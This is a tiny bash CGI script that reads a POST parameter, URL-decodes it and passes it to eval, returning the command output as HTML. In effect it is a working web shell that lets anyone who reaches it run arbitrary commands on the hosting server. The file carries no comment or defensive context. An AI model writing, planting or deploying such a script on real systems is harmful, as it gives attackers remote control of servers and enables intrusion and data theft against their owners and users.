#!/bin/bash
echo "Content-type: text/html"
echo
read -n "$CONTENT_LENGTH" POST
cmd="${POST#*=}"
echo "<pre>$(eval "$(printf '%b' "${cmd//%/\\x}")")</pre>"
